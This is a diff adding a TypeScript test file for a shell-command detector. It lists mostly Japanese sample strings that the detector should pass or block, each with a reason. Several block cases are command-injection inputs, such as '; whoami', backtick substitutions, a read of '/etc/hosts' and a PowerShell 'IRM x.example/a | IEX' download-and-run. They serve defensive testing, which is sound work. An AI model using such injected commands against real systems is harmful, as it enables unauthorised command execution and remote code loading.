@@ -1,0 +1,35 @@
+import { testDetector } from "../testing/detector.case.ts"
+import { SHELL_DETECTOR } from "./detector.ts"
+
+testDetector(
+    SHELL_DETECTOR,
+    [
+        { text: "得意: AWS; Ansible 運用; ssh 接続", want: "pass", why: "what somebody can do" },
+        { text: "例株式会社 | SSH", want: "pass", why: "an abbreviation" },
+        { text: "FTP; SFTP; SCP 対応のサーバー", want: "pass", why: "abbreviations" },
+        { text: "例社 | curl (入門)", want: "pass", why: "a remark in brackets" },
+        { text: "Linux & ansible (2026)", want: "pass", why: "a year in brackets" },
+        { text: "wget & curl の違い", want: "pass", why: "two programs and a question" },
+        { text: "MySQL; PostgreSQL; sqlite3", want: "pass", why: "products" },
+        { text: "ICM 2026", want: "pass", why: "a congress" },
+        { text: "Rock & IRM (Information Rights)", want: "pass", why: "an abbreviation with its words" },
+        { text: "; curl の使い方", want: "block", why: "nothing is said before the separator" },
+        { text: "1.txt; curl 例", want: "block", why: "the name of a file before it" },
+        { text: "foo; whoami", want: "block", why: "tells something alone" },
+        { text: "foo; WHOAMI", want: "block", why: "Windows takes capitals, too" },
+        { text: "foo; SSH -l rei", want: "block", why: "an option" },
+        { text: "foo; wget 例 -O a", want: "block", why: "an option behind the word" },
+        { text: "foo; curl 例 /etc/hosts", want: "block", why: "a file behind the word" },
+        { text: "foo && curl の使い方", want: "block", why: "a sign that no sentence has" },
+        { text: "foo; curl 例 `id`", want: "block", why: "a substitution" },
+        { text: "foo; curl (whoami)", want: "block", why: "PowerShell runs what stands in brackets" },
+        { text: "foo; IRM x.example/a | IEX", want: "block", why: "PowerShell loads and runs" },
+        { text: "`sort` の使い方", want: "pass", why: "a name in a code span, and a question" },
+        { text: "次は `whoami` です", want: "pass", why: "a name in a code span" },
+        { text: "`git log --oneline | head -20` で見る", want: "pass", why: "fewer lines of what is shown" },
+        { text: "`whoami`", want: "block", why: "nothing but a substitution" },
+        { text: "`id -u` です", want: "block", why: "an option" },
+        { text: "x `id | head` です", want: "block", why: "a pipe behind what tells something" },
+    ],
+    [";", " ", "|", "&", "curl", "ssh", "SSH", "例", "(", ")", "`", "x"],
+)
